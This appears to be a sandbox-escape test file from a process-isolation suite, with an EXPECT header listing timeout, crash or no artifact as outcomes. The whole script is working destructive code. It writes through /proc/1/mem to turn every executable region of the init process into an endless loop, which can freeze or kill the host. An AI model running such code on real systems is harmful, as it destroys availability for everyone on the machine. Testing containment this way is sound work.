# EXPECT: outcome=timeout_no_artifact,crash,no_artifact wall=3 at_most=6
# /proc/1/mem is open to the same user where Yama does not forbid it: every instruction there becomes a jump to itself.
# That may also kill it, and everything with it; it never makes anything live longer.
import time

try:
    memory = open("/proc/1/mem", "r+b", buffering=0)
    for line in open("/proc/1/maps"):
        span, rights = line.split()[:2]
        if "x" in rights and "vsyscall" not in line and "vdso" not in line:
            start, end = (int(part, 16) for part in span.split("-"))
            memory.seek(start)
            memory.write(b"\x90" * (end - start - 2) + b"\xeb\xfe")
except OSError as error:
    print("held:", error.strerror)
for _ in range(600):
    time.sleep(1)
